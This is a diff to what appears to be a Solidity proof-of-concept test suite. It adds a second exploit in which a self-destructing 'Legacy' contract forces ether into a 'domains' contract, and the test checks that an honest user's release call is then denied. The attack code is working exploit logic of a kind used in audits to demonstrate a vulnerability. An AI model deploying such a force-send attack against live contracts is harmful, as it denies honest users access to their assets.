@@ -131,6 +131,22 @@ contract Proof {
         require(address(mallory).balance >= 40 ether, "nothing gained");
     }
 
+    function exploit2() public {
+        mallory.leave();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        (bool done, ) = address(this).call(abi.encodeCall(this.releaseOfAna, ()));
+        require(!done, "nothing denied");
+    }
+
+    // An honest user's call.
+    function releaseOfAna() external {
+        vm.prank(ANA);
+        domains.release(anas);
+    }
+
     function target() public view returns (address) {
         return address(domains);
     }
@@ -155,5 +171,16 @@ contract Attacker {
         domains.release(own);
     }
 
+    function leave() external {
+        new Legacy{value: 1}(payable(address(domains)));
+    }
+
     receive() external payable {}
+}
+
+// Leaves its ether to an account that need not take it.
+contract Legacy {
+    constructor(address payable heir) payable {
+        selfdestruct(heir);
+    }
 }
